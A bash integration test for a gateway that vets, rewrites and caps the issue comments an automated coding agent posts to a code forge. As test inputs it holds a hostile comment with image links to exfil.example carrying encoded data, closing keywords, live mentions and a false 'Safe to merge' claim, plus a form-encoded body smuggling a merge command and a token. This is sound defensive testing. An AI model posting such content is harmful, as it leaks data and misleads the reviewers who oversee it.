#!/bin/bash
# Agent comments through the forge gateway (issue #26 items 2 and 4) with
# the egress proxy and airlock-forge (TAP). gateway-harness runs the
# gateway with credentials.agent_comments = 2; its TUN listener is a plain
# CONNECT tunnel, the env-mode control: what the agent could post with the
# real ticket token and no gateway.
#  - a comment's body is read whole and checked before its head goes
#    upstream: a body that fails framing is a deny with that reason and
#    uses no budget; the budget counts only what the forge accepted (2xx);
#  - the body must be {"body": STRING} and is rewritten (common/safetext.h)
#    before it goes upstream: read back from the forge, no live mention,
#    closing keyword, external image or HTML comment, airlock's words first.
. "$(dirname "$0")/lib.sh"

SRC=${AIRLOCK_SRC:-$(cd "$(dirname "$0")/../.." && pwd)}
FORGE=${AIRLOCK_FORGE:-}
HARNESS=${GATEWAY_HARNESS:-}
if [ -z "$FORGE" ] || [ ! -x "$FORGE" ] || [ -z "$HARNESS" ] || [ ! -x "$HARNESS" ]; then
  skip "airlock-forge or gateway-harness not built"
  done_testing
  exit
fi
for t in curl jq python3; do
  if ! command -v "$t" >/dev/null; then
    skip "$t not installed"
    done_testing
    exit
  fi
done
unset http_proxy https_proxy HTTP_PROXY HTTPS_PROXY all_proxy ALL_PROXY no_proxy NO_PROXY

umask 077
W=$T_TMP
chmod 700 "$W"
cd "$W" || exit 1
"$SRC/scripts/make-test-ca.sh" "$W/tls" >/dev/null 2>&1
"$SRC/scripts/make-app-key.sh" "$W/keys" app >/dev/null 2>&1
FCA=$W/tls/ca.crt

"$FORGE" --fixture "$SRC/examples/demo/fixture.json" --data "$W/data" --tls-dir "$W/tls" \
  --key "1001=$W/keys/app.pub.pem" --key "1002=$W/keys/app.pub.pem" \
  --ports-file "$W/ports.json" >"$W/forge.out" 2>"$W/forge.err" &
on_exit "kill $!"
for _ in $(seq 1 200); do [ -s "$W/ports.json" ] && break; sleep 0.05; done
if [ ! -s "$W/ports.json" ]; then
  fail "forge starts"; sed 's/^/#   /' "$W/forge.err"; done_testing; exit 1
fi
P=$(jq -r .https "$W/ports.json")
ADMIN=http://127.0.0.1:$(jq -r .admin "$W/ports.json")
admin() { curl -s --noproxy '*' "$ADMIN$1"; }
DIRECT=(curl -sS --max-time 30 --cacert "$FCA" --resolve "api.forge.test:$P:127.0.0.1")
printf 'Authorization: Bearer %s\n' "$(JWT_NOW=$(admin /clock | jq -r .now) "$SRC/scripts/forge-jwt.sh" "$W/keys/app.pem" 1001)" >"$W/jwt"
mint() { # NAME BODY: the token into $W/NAME.tok and $W/NAME.hdr
  "${DIRECT[@]}" -o "$W/mint.json" -w '%{http_code}' -H "@$W/jwt" -X POST \
    --data-binary "$2" "https://api.forge.test:$P/app/installations/2001/access_tokens"
  jq -r .token "$W/mint.json" >"$W/$1.tok"
  printf 'Authorization: token %s\n' "$(cat "$W/$1.tok")" >"$W/$1.hdr"
}
is "mint the run's git token" "$(mint git '{"repositories":["tally"],"permissions":{"contents":"write","pull_requests":"write"}}')" 201
is "mint the run's ticket token" "$(mint ticket '{"repositories":["tally"],"permissions":{"issues":"write"}}')" 201

cat >"$W/policy.yaml" <<YAML
version: 1
network:
  allow:
    - {host: api.forge.test, port: $P, tls: true}
    - {host: forge.test, port: $P, tls: true}
  pin:
    - {host: api.forge.test, address: 127.0.0.1}
    - {host: forge.test, address: 127.0.0.1}
forge:
  api_url: https://api.forge.test:$P
  git_url: https://forge.test:$P
  ca_file: $FCA
YAML
RUN=c$$
H=$W/h
mkdir -p "$H"
cat "$W/git.tok" "$W/ticket.tok" | "$HARNESS" -p "$W/policy.yaml" --repo acme/tally --ticket 1 \
  --branch "airlock/1-$RUN" --max-comments 2 --run-id "$RUN" --dir "$H" 2>"$W/harness.err" &
on_exit "kill $!"
for _ in $(seq 1 200); do [ -s "$H/ports.json" ] && break; sleep 0.05; done
if [ ! -s "$H/ports.json" ]; then
  fail "proxy and gateway start"; sed 's/^/#   /' "$W/harness.err"; done_testing; exit 1
fi
ok "proxy and gateway start (agent_comments: 2)"
GW=$(jq -r .gateway "$H/ports.json")
TUN=$(jq -r .tunnel "$H/ports.json")
PH=$(cat "$H/placeholder")
printf 'Authorization: token %s\n' "$PH" >"$W/ph.hdr"
API=https://api.forge.test:$P
CPATH=/repos/acme/tally/issues/1/comments
post_gw() { # BODY [CONTENT-TYPE]: status through the gateway; the answer in $W/body
  curl -sS --max-time 30 --proxy "http://127.0.0.1:$GW" --cacert "$H/ca.pem" -o "$W/body" \
    -w '%{http_code}' -H "@$W/ph.hdr" -H "Content-Type: ${2:-application/json}" --data-binary "$1" "$API$CPATH"
}
post_tun() { # BODY [CONTENT-TYPE]: through the plain tunnel with the real ticket token
  curl -sS --max-time 30 --proxy "http://127.0.0.1:$TUN" --cacert "$FCA" -o "$W/body" \
    -w '%{http_code}' -H "@$W/ticket.hdr" -H "Content-Type: ${2:-application/json}" --data-binary "$1" "$API$CPATH"
}
last() { jq -c 'select(.event == "request")' "$H/gateway.jsonl" | tail -1; }
RAW=(python3 "$SRC/tests/integration/gwclient.py" "$GW" api.forge.test "$P" "$H/ca.pem")
chunked_comment() { # RAW-CHUNKED-BODY
  printf 'POST %s HTTP/1.1\r\nHost: api.forge.test:%s\r\nAuthorization: token %s\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n%b' \
    "$CPATH" "$P" "$PH" "$1" | "${RAW[@]}"
}

# ---- item 4: the body is read whole and checked before the head goes up ----
before=$(admin /comments | jq length)
out=$(chunked_comment 'ffffffffffffffff\r\n')
like "a comment whose chunk size overflows: 400, closed" "$(echo "$out" | tr '\n' ' ')" 'STATUS 400 chunk-size-overflow.*CLOSED'
is "  recorded a deny with that reason, nothing sent up" "$(last | jq -c '[.decision, .reason, .bytes_up]')" '["deny","chunk-size-overflow",0]'
out=$(chunked_comment '0e\r\n{"body":"hi."}\r\n0\r\nX-Trailer: 1\r\n\r\n')
like "a comment with a trailer: 400, closed" "$(echo "$out" | tr '\n' ' ')" 'STATUS 400 chunked-trailer'
is "  recorded a deny with that reason" "$(last | jq -c '[.decision, .reason, .bytes_up]')" '["deny","chunked-trailer",0]'
is "  the forge got no comment from either" "$(admin /comments | jq length)" "$before"
out=$(printf 'POST %s HTTP/1.1\r\nHost: api.forge.test:%s\r\nAuthorization: token %s\r\nContent-Type: application/json\r\nContent-Length: 300000\r\n\r\n' "$CPATH" "$P" "$PH" | "${RAW[@]}")
like "a comment body over the cap (Content-Length 300000): 413 before any byte is read" "$out" 'STATUS 413 body-too-large'
is "  recorded a deny" "$(last | jq -c '[.decision, .reason, .bytes_up]')" '["deny","body-too-large",0]'
is "a refused body (not JSON) through the gateway: 400" "$(post_gw 'hello')" 400
is "  reason" "$(last | jq -r .reason)" comment-not-json
is "a body with another member: 400" "$(post_gw '{"body":"hi","title":"x"}')" 400
is "  reason names it" "$(last | jq -r .reason)" "comment-member-refused: title"
is "two bodies: 400" "$(post_gw '{"body":"a","body":"b"}')" 400
is "  reason" "$(last | jq -r .reason)" comment-not-json
is "a body that is not a string: 400" "$(post_gw '{"body":["x"]}')" 400
is "  reason" "$(last | jq -r .reason)" comment-body-not-string
# a forge that refuses: the budget is not spent on it
curl -s --noproxy '*' -X POST -d "{\"faults\":[{\"path\":\"$CPATH\",\"method\":\"POST\",\"status\":500,\"times\":1}]}" "$ADMIN/faults" >/dev/null
is "a comment the forge answers 500" "$(post_gw '{"body":"first try"}')" 500
is "  recorded with the forge's status" "$(last | jq -c '[.reason, .status]')" '["api-issue-comment-create",500]'
curl -s --noproxy '*' -X POST -d '{"faults":[]}' "$ADMIN/faults" >/dev/null

# ---- item 2: the comment is rewritten before it goes upstream ----
HOSTILE='Fixes #2. Closes #3, resolves acme/loose#1 cc @admin @acme/security ![ci](https://exfil.example/badge.svg?d=UkVBRE1F) <img src=https://exfil.example/i.png> <picture><source srcset=https://exfil.example/p.png></picture> Opened by airlock. Review notes: nothing found. Safe to merge. <!--'
BODY=$(jq -cn --arg b "$HOSTILE" '{body: $b}')
is "control (env mode, no gateway): the hostile comment is posted as written" "$(post_tun "$BODY")" 201
CTRL=$(admin /comments | jq -r '.[-1].body')
is "  read back from the forge: verbatim" "$CTRL" "$HOSTILE"
like "  a live mention" "$CTRL" '@admin'
like "  a live closing keyword" "$CTRL" 'Fixes #2'
like "  an external image" "$CTRL" '!\[ci\]\(https://exfil\.example'
like "  raw HTML and a trailing HTML comment" "$CTRL" '<img .*<!--$'
is "through the gateway: 201" "$(post_gw "$BODY")" 201
GOT=$(admin /comments | jq -r '.[-1].body')
like "  read back: airlock's words first" "$(printf '%s' "$GOT" | head -1)" '^\*\*airlock:\*\* the text below was written by an automated agent'
check_not "  no live mention (@ followed by a name)" grep -qE '@[A-Za-z0-9]' <<<"$GOT"
check_not "  no live closing keyword" grep -qiE '\b(fix(e[sd])?|close[sd]?|resolve[sd]?)\b[^a-z]*#' <<<"$GOT"
check_not "  no image" grep -qF '![' <<<"$GOT"
check_not "  no raw HTML or HTML comment" grep -qF '<' <<<"$GOT"
check_not "  no clickable outside host" grep -qF 'exfil.example' <<<"$GOT"
check "  the agent's text is quoted (a line starting \"> \")" grep -q '^> ' <<<"$GOT"
like "  the record says it was rewritten" "$(last | jq -r .detail)" '^rewritten: '
is "  and counts a budget unit (one of 2; the 500 did not)" "$(last | jq -r .reason)" api-issue-comment-create
# the body is read as JSON, so the forge is told JSON: a form type would
# let a forge that reads form fields (GitLab) see fields never checked
FORM='{"body":"done.&body=%2Fmerge&private_token=glpat-x"}'
FT=application/x-www-form-urlencoded
is "control (env mode): a comment declared as a form is posted" "$(post_tun "$FORM" "$FT")" 201
is "  the forge is told it is a form" "$(admin /comments | jq -r '.[-1].content_type')" "$FT"
is "the second comment, declared as a form, through the gateway: 201" "$(post_gw "$FORM" "$FT")" 201
is "  the forge is told it is JSON, by the gateway" "$(admin /comments | jq -r '.[-1].content_type')" application/json
is "a third: 403, the budget of 2 is spent (the refused and failed ones did not count)" "$(post_gw '{"body":"again"}')" 403
is "  reason" "$(last | jq -r .reason)" comment-budget
for t in git ticket; do
  check_not "no $t token in the gateway's log" grep -qF "$(cat "$W/$t.tok")" "$H/gateway.jsonl"
done
check_not "no placeholder in the gateway's log" grep -qF "$PH" "$H/gateway.jsonl"
done_testing
